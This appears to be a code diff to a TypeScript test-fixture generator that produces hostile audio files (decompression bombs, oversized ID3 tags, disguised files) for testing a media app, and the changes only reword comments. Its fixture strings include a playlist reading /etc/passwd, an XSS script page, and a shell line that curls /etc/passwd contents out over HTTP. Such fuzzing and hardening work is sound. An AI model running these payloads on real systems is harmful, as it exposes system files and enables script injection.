@@ -67,7 +67,7 @@ const lists: Readonly<Record<string, string>> = {
   'an image sequence and a filter': 'movie=/etc/passwd,lavfi:amovie=/etc/hosts\n%d.png\n',
 };
 
-/** Other types of files in front of, behind or in place of sound. */
+/** Files of other types that stand before, after or in place of the sound. */
 const disguises: Readonly<Record<string, string>> = {
   'a page': '<!doctype html><script>alert(document.domain)</script>',
   'a script': '#!/bin/sh\ncurl http://127.0.0.1:1/$(cat /etc/passwd)\n',
@@ -99,8 +99,8 @@ const oddNames = [
 
 /**
  * Lists seventy hostile files: playlists that name other files, wrong and truncated headers, decompression bombs, huge
- * tags, sound with other data around it, odd names. Another seed gives other files.
- * @param encoded a short song in each format, by its extension, of which broken ones are made
+ * tags, sound with other data around it, odd names. Other seeds give other files. @param encoded a short song in each
+ * format, keyed by file extension, from which the broken files are made
  */
 export function listHostileSongs(
   random: SeededRandom,
@@ -184,8 +184,8 @@ export function listHostileSongs(
 }
 
 /**
- * Draws a few hostile files that cover every kind of attack and every format: up to two per kind, with the formats in
- * turn.
+ * Draws a few hostile files that cover every kind of attack and every format: up to two files per kind, in alternating
+ * formats.
  */
 export function drawOfEachAttack(random: SeededRandom, songs: readonly HostileSong[]): HostileSong[] {
   const types = Object.values(mimeTypes).toSorted(() => random.next() - 0.5);
@@ -207,7 +207,7 @@ type MakeSong = (
   mayBePlayed?: boolean,
 ) => HostileFile;
 
-/** Small files that claim to be huge, or become so when decoded. */
+/** Small files that claim to be huge, or that become huge when decoded. */
 function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
   const altered = (...changes: readonly (readonly [at: number, bytes: readonly number[]])[]) => {
     const wav = Uint8Array.from(sound);
@@ -241,7 +241,7 @@ function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
   ];
 }
 
-/** Tags that claim to be, or are, far larger than a title. */
+/** Files whose tags are far larger than a title, or claim to be. */
 function hugeTags(song: MakeSong, sound: Uint8Array<ArrayBuffer>, mp3: Uint8Array): HostileFile[] {
   /** Encodes an ID3 size, seven bits per byte. */
   const size = (bytes: number) => [bytes >>> 21, bytes >>> 14, bytes >>> 7, bytes].map((part) => part & 0x7f);
